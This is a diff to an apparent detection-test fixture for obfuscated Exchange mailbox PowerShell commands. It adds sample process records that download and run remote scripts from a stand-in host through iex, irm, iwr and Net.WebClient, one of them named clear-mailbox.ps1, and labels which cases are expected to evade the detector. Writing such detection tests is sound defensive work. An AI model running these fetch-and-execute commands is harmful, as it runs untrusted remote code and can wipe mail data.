@@ -82,5 +82,25 @@ export const obfuscatedMailCommandSamples: DetectionSamples = {
       severity: 'low',
       records: [processRow('powershell.exe -c "$c=$args[0]; . $c mira.solberg -DeleteC"')],
     },
+    {
+      name: 'download and run, in a session of Exchange or by a telling name',
+      expect: 'evades',
+      severity: 'medium',
+      records: [
+        processRow('powershell.exe -c "Connect-ExchangeOnline; iex (irm https://files.example/x.ps1)"'),
+        processRow('powershell.exe -c "Connect-ExchangeOnline; irm https://files.example/x | iex"'),
+        processRow(
+          `powershell.exe -c "iex (New-Object Net.WebClient).DownloadString('https://files.example/clear-mailbox.ps1')"`,
+        ),
+      ],
+    },
+    {
+      name: 'download and run of anything else, and a session in which nothing is fetched',
+      expect: 'quiet',
+      records: [
+        processRow('powershell.exe -c "iwr -UseBasicParsing https://files.example/install.ps1 | iex"'),
+        processRow('powershell.exe -c "Connect-ExchangeOnline; & $report; iex $hook"'),
+      ],
+    },
   ],
 };
